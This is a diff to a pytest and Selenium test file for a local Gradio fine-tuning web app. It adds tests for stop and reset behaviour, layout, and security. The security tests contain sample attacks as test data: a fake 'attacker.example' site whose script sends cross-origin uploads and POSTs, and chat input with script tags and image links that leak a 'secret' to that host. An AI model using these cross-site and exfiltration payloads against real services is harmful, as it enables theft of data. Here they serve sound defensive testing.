@@ -17,7 +17,9 @@ import sys
 import threading
 import time
 import weakref
+from dataclasses import dataclass
 from pathlib import Path
+from types import SimpleNamespace
 
 import pytest
 import torch
@@ -43,6 +45,7 @@ from .conftest import ROOT, TINY, cli, make_cfg
 
 ARTIFACTS = ROOT / "outputs" / "test-artifacts" / "web"
 GREEDY = GenerationConfig(max_new_tokens=12)
+OTHER_HOST = "attacker.example"  # a name the test browser resolves to 127.0.0.1: another site, or DNS rebinding
 
 
 @pytest.fixture(scope="module")
@@ -143,7 +146,7 @@ def test_stream_reply_streams_what_generate_returns(outputs):
     loaded = slot.get(None, "base")
     prompt = render_prompt([{"role": "user", "content": "Name a colour."}], loaded.tokenizer, cfg.dataset)
     ids = encode(prompt, loaded.tokenizer, return_tensors="pt")["input_ids"]
-    steps = list(stream_reply(loaded, ids, GREEDY))
+    steps = list(stream_reply(loaded, ids, GREEDY, every_s=0))
     texts = [text for text, _ in steps]
     assert len({t for t in texts[:-1] if t}) >= 2  # the answer grows piece by piece
     final, stats = steps[-1]
@@ -315,12 +318,22 @@ def test_a_port_in_use_is_refused_in_one_sentence():
     check_port("127.0.0.1", port)  # free again
 
 
+@dataclass
+class Server:
+    url: str
+    port: int
+    lines: list[str]  # its stdout and stderr, line by line, as they come
+    temp_dir: Path  # GRADIO_TEMP_DIR: where an upload would land
+
+
 @pytest.fixture(scope="module")
-def app_url(outputs, tmp_path_factory):
+def app(outputs, tmp_path_factory):
     """`python -m qlora_lab pipeline=web` on a free port, stopped with Ctrl-C (SIGINT) at the end."""
     run_dir = outputs / "tiny" / "run1"
     port = free_port()
-    env = dict(os.environ, PYTHONUNBUFFERED="1", HF_HUB_OFFLINE="1", TOKENIZERS_PARALLELISM="false")
+    temp_dir = tmp_path_factory.mktemp("gradio_tmp")
+    env = dict(os.environ, PYTHONUNBUFFERED="1", HF_HUB_OFFLINE="1", TOKENIZERS_PARALLELISM="false",
+               GRADIO_TEMP_DIR=str(temp_dir))
     job = tmp_path_factory.mktemp("web_job")
     proc = subprocess.Popen([sys.executable, "-m", "qlora_lab", "pipeline=web", f"run_dir={run_dir}",
                              "model=tiny_random", "generation.max_new_tokens=48", f"web.port={port}",
@@ -341,11 +354,42 @@ def app_url(outputs, tmp_path_factory):
         pytest.fail("the web app did not print its URL within 120 s:\n" + "".join(lines)[-3000:])
     url = next(line for line in lines if line.startswith("web app: http")).split()[2]
     assert url == f"http://127.0.0.1:{port}"
-    yield url
+    yield Server(url, port, lines, temp_dir)
     proc.send_signal(signal.SIGINT)
     assert proc.wait(120) == 0, "".join(lines)[-3000:]
     assert "web app stopped" in "".join(lines)
     assert json.loads((job / "run.json").read_text())["status"] == "completed"
+
+
+@pytest.fixture(scope="module")
+def app_url(app):
+    return app.url
+
+
+@pytest.fixture(scope="module")
+def other_site(tmp_path_factory):
+    """Another web site, http://attacker.example:PORT (the browser resolves the name to 127.0.0.1), serving the pages
+    the tests write into its folder and recording every path requested from it."""
+    from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
+
+    folder = tmp_path_factory.mktemp("other_site")
+    requested: list[str] = []
+
+    class Handler(SimpleHTTPRequestHandler):
+        def __init__(self, *args, **kwargs):
+            super().__init__(*args, directory=str(folder), **kwargs)
+
+        def do_GET(self):
+            requested.append(self.path)
+            super().do_GET()
+
+        def log_message(self, *args):
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield SimpleNamespace(url=f"http://{OTHER_HOST}:{server.server_port}", folder=folder, requested=requested)
+    server.shutdown()
 
 
 @pytest.fixture(scope="module")
@@ -357,7 +401,7 @@ def browser(app_url):
     options = webdriver.ChromeOptions()
     options.binary_location = chromium  # the system browser and driver: nothing is downloaded
     for arg in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu",
-                "--window-size=1280,1000"):
+                "--window-size=1280,1000", f"--host-resolver-rules=MAP {OTHER_HOST} 127.0.0.1"):
         options.add_argument(arg)
     browser = webdriver.Chrome(service=Service(driver), options=options)
     browser.get(app_url)
@@ -495,3 +539,239 @@ def test_sweeps_page_shows_the_report(browser):
     wait_for(lambda: "Sweep report: demo" in text_of(browser, "sweep-summary"), what="the sweep's summary.md")
     wait_for(lambda: len(browser.find_elements(By.CSS_SELECTOR, "#sweep-plots img")) >= 3, what="the plots")
     browser.save_screenshot(str(ARTIFACTS / "sweeps.png"))
+
+
+# ---------------------------------------------------------------- safe on a shared machine, finished where a user looks
+
+def server_line(app: Server, text: str, since: int, timeout: float) -> str:
+    """The first line of the app's output from line `since` on that holds `text`."""
+    try:
+        return wait_for(lambda: next((line for line in app.lines[since:] if text in line), None), timeout,
+                        f"{text!r} in the app's output")
+    except AssertionError as e:
+        raise AssertionError(f"{e}; its output since:\n{''.join(app.lines[since:])[-3000:]}") from None
+
+
+def set_max_new_tokens(browser, n: int) -> None:
+    from selenium.webdriver.common.by import By
+    from selenium.webdriver.common.keys import Keys
+
+    css = "#max-new-tokens input[type=number]"
+    if not [b for b in browser.find_elements(By.CSS_SELECTOR, css) if b.is_displayed()]:
+        wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, "#settings button"), what="the settings")[0].click()
+    box = wait_for(lambda: [b for b in browser.find_elements(By.CSS_SELECTOR, css) if b.is_displayed()],
+                   what="the generation settings")[0]
+    box.send_keys(Keys.CONTROL, "a")
+    box.send_keys(str(n), Keys.TAB)
+    wait_for(lambda: box.get_attribute("value") == str(n), what=f"max new tokens = {n}")
+
+
+def send_message(browser, text: str) -> None:
+    from selenium.webdriver.common.by import By
+
+    wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, "#chat-input textarea"), what="the chat input")
+    browser.find_element(By.CSS_SELECTOR, "#chat-input textarea").send_keys(text)
+    browser.find_element(By.ID, "chat-send").click()
+
+
+def bubbles(browser, who: str) -> list[str]:
+    from selenium.webdriver.common.by import By
+
+    return [b.text for b in browser.find_elements(By.CSS_SELECTOR, f'#chat-history [data-testid="{who}"]')]
+
+
+def test_a_foreign_host_is_refused(browser, app):
+    """DNS rebinding: a page on another name that resolves to this machine gets no app, and no API."""
+    import urllib.error
+    import urllib.request
+
+    from selenium.webdriver.common.by import By
+
+    browser.get(f"http://{OTHER_HOST}:{app.port}/")
+    assert "is not served here" in browser.find_element(By.TAG_NAME, "body").text
+    assert not browser.find_elements(By.ID, "chat-input")
+    request = urllib.request.Request(f"{app.url}/config", headers={"Host": f"{OTHER_HOST}:{app.port}"})
+    with pytest.raises(urllib.error.HTTPError) as refused:
+        urllib.request.urlopen(request, timeout=30)
+    assert refused.value.code == 400
+    with urllib.request.urlopen(f"{app.url}/config", timeout=30) as page:  # its own address still works
+        assert page.status == 200
+    browser.get(app.url)
+
+
+def test_a_cross_origin_upload_and_post_are_refused(browser, app, other_site):
+    (other_site.folder / "upload.html").write_text(f"""<script>
+        const form = new FormData();
+        form.append("files", new Blob(["cross-site payload"]), "payload.txt");
+        const post = (path, body) => fetch("{app.url}" + path, {{method: "POST", mode: "no-cors", body}})
+            .then(() => "sent", e => "failed: " + e);
+        Promise.all([post("/gradio_api/upload", form),
+                     post("/gradio_api/queue/join", JSON.stringify({{data: ["hi"], fn_index: 0}}))])
+            .then(r => {{ window.done = r; }});
+    </script>""")
+    since = len(app.lines)
+    browser.get(f"{other_site.url}/upload.html")
+    wait_for(lambda: browser.execute_script("return window.done"), what="the other site's requests")
+    server_line(app, "refused POST /gradio_api/upload", since, 10)
+    server_line(app, "refused POST /gradio_api/queue/join", since, 10)
+    landed = [p for p in app.temp_dir.rglob("*") if p.is_file() and b"cross-site payload" in p.read_bytes()]
+    assert not landed
+    browser.get(app.url)
+
+
+def test_typed_html_is_shown_as_text_and_no_remote_image_is_fetched(browser, app, other_site):
+    from selenium.webdriver.common.by import By
+
+    browser.get(app.url)
+    typed = (f'<script>window.pwned = 1</script> <img src="{other_site.url}/exfil-img?secret=42"> '
+             f'![x]({other_site.url}/exfil-md?secret=42) **not bold** a_b_c')
+    send_message(browser, typed)
+    wait_for(lambda: "tokens/s" in text_of(browser, "chat-status"), what="the reply")
+    assert bubbles(browser, "user")[-1].strip() == typed
+    assert not browser.find_elements(By.CSS_SELECTOR, "#chat-history img, #chat-history strong")
+    # however an image got into the page (a reply), its policy lets the browser fetch none from elsewhere
+    browser.execute_script(f"const i = document.createElement('img'); i.src = '{other_site.url}/exfil-csp'; "
+                           f"document.body.appendChild(i);")
+    time.sleep(2)
+    assert not [p for p in other_site.requested if "exfil" in p], other_site.requested
+    assert browser.execute_script("return window.pwned") is None
+    browser.save_screenshot(str(ARTIFACTS / "chat_typed_html.png"))
+    browser.find_element(By.ID, "chat-reset").click()
+
+
+def answer_started(browser) -> None:
+    try:
+        wait_for(lambda: "generating" in text_of(browser, "chat-status"), what="the answer to start")
+    except AssertionError:
+        browser.save_screenshot(str(ARTIFACTS / "no_answer.png"))
+        raise AssertionError(f"no answer started; the status says {text_of(browser, 'chat-status')!r}") from None
+
+
+def test_stop_ends_the_generation_and_keeps_the_answer_so_far(browser, app):
+    from selenium.webdriver.common.by import By
+
+    set_max_new_tokens(browser, 1024)
+    send_message(browser, "Count to a thousand.")
+    answer_started(browser)
+    since, clicked = len(app.lines), time.monotonic()
+    browser.find_element(By.ID, "chat-stop").click()
+    try:
+        line = server_line(app, "generation stopped after", since, 10)
+    except AssertionError:
+        browser.save_screenshot(str(ARTIFACTS / "stop_failed.png"))
+        raise
+    ended_s = time.monotonic() - clicked
+    assert "(stop button)" in line and ended_s < 5, (line, ended_s)
+    status = wait_for(lambda: "stopped:" in (s := text_of(browser, "chat-status")) and s, what="the stopped status")
+    tokens = int(status.split("stopped: ")[1].split()[0])
+    assert 0 < tokens < 1024 and bubbles(browser, "bot")[-1].strip(), status
+    browser.find_element(By.ID, "chat-reset").click()
+
+
+def test_closing_the_page_ends_its_generation(browser, app):
+    main = browser.current_window_handle
+    browser.switch_to.new_window("tab")
+    browser.get(app.url)
+    set_max_new_tokens(browser, 1024)
+    send_message(browser, "Count to a thousand.")
+    answer_started(browser)
+    since, closed = len(app.lines), time.monotonic()
+    browser.close()
+    browser.switch_to.window(main)
+    line = server_line(app, "generation stopped after", since, 15)
+    ended_s = time.monotonic() - closed
+    assert "went away" in line and ended_s < 10, (line, ended_s)
+
+
+def test_reset_during_an_answer_forgets_it(browser, app):
+    from selenium.webdriver.common.by import By
+
+    browser.get(app.url)
+    set_max_new_tokens(browser, 1024)
+    send_message(browser, "Count to a thousand.")
+    answer_started(browser)
+    browser.find_element(By.ID, "chat-reset").click()
+    wait_for(lambda: not bubbles(browser, "user"), what="the reset to clear the conversation")
+    time.sleep(3)
+    assert not bubbles(browser, "user") and not bubbles(browser, "bot")  # the stream did not come back
+    set_max_new_tokens(browser, 8)
+    send_message(browser, "Second question.")
+    wait_for(lambda: "tokens/s" in text_of(browser, "chat-status"), what="the next reply")
+    assert bubbles(browser, "user") == ["Second question."] and len(bubbles(browser, "bot")) == 1
+
+
+def test_a_run_outside_the_roots_is_refused(browser, app, outputs, tmp_path):
+    """Only runs under paths.output_dir and run_dir's parent: a folder elsewhere, typed or posted, is not loaded."""
+    from gradio_client import Client
+    from selenium.webdriver.common.by import By
+    from selenium.webdriver.common.keys import Keys
+
+    elsewhere = tmp_path / "elsewhere"
+    shutil.copytree(outputs / "tiny" / "run1", elsewhere)  # a real run: loading it would work
+    browser.get(app.url)
+    box = wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, "#run-select input"), what="the run list")[0]
+    box.click()
+    box.send_keys(Keys.CONTROL, "a")
+    box.send_keys(str(elsewhere), Keys.ENTER)
+    browser.find_element(By.TAG_NAME, "h2").click()
+    wait_for(lambda: box.get_attribute("value") != str(elsewhere), 10, "the typed path to be dropped")
+
+    since = len(app.lines)
+    client = Client(app.url, verbose=False)
+    try:
+        result = client.predict("hi", str(elsewhere), "base", "", False, 1.0, 50, 1.0, 4, 1.0, api_name="/respond")
+        said = str(result[-1])
+    except Exception as e:  # noqa: BLE001 - Gradio's own check of the choices may answer first
+        said = str(e)
+    assert "not a run under" in said or "not in the list of choices" in said, said
+    assert not any("loaded in" in line and "elsewhere" in line for line in app.lines[since:])
+
+
+def test_a_sweep_plot_is_shown_whole(browser, app):
+    from selenium.webdriver.common.by import By
+
+    browser.get(app.url)
+    open_tab(browser, "Sweeps")
+    plots = wait_for(lambda: len(found := browser.find_elements(By.CSS_SELECTOR, "#sweep-plots img")) >= 3 and found,
+                     what="the plots")
+    browser.execute_script("arguments[0].scrollIntoView()", plots[0])
+    wait_for(lambda: all(browser.execute_script("return arguments[0].complete && arguments[0].naturalWidth", p)
+                         for p in plots), what="the plots to load")
+    for plot in plots:
+        box = browser.execute_script("""
+            const img = arguments[0], r = img.getBoundingClientRect();
+            const fit = getComputedStyle(img).objectFit;
+            let w = r.width, h = r.height;  // the drawn picture inside the box, for object-fit: contain
+            if (fit === 'contain' || fit === 'scale-down') {
+                const s = Math.min(r.width / img.naturalWidth, r.height / img.naturalHeight);
+                w = img.naturalWidth * s; h = img.naturalHeight * s;
+            }
+            let clipped = false;  // an ancestor that hides what overflows it, smaller than the picture
+            for (let p = img.parentElement; p && p.id !== 'sweep-plots'; p = p.parentElement) {
+                const o = getComputedStyle(p), q = p.getBoundingClientRect();
+                if ((o.overflow + o.overflowX + o.overflowY).includes('hidden') &&
+                    (q.width + 1 < w || q.height + 1 < h)) clipped = true;
+            }
+            return {w, h, nw: img.naturalWidth, nh: img.naturalHeight, fit, clipped};""", plot)
+        assert box["fit"] != "cover" and not box["clipped"], box
+        assert box["w"] / box["h"] == pytest.approx(box["nw"] / box["nh"], rel=0.02), box
+    browser.save_screenshot(str(ARTIFACTS / "sweep_plots.png"))
+
+
+def test_chat_input_and_send_are_in_view_at_1400x900(browser, app):
+    from selenium.webdriver.common.by import By
+
+    browser.set_window_size(1400, 900)
+    inner = browser.execute_script("return [window.innerWidth, window.innerHeight]")
+    browser.set_window_size(1400 + 1400 - inner[0], 900 + 900 - inner[1])  # a 1400x900 page
+    try:
+        browser.get(app.url)
+        wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, "#chat-input textarea"), what="the chat input")
+        height = browser.execute_script("return window.innerHeight")
+        for css in ("#chat-input textarea", "#chat-send", "#chat-stop"):
+            bottom = browser.execute_script("return arguments[0].getBoundingClientRect().bottom",
+                                            browser.find_element(By.CSS_SELECTOR, css))
+            assert bottom <= height, (css, bottom, height)
+        browser.save_screenshot(str(ARTIFACTS / "chat_1400x900.png"))
+    finally:
+        browser.set_window_size(1280, 1000)
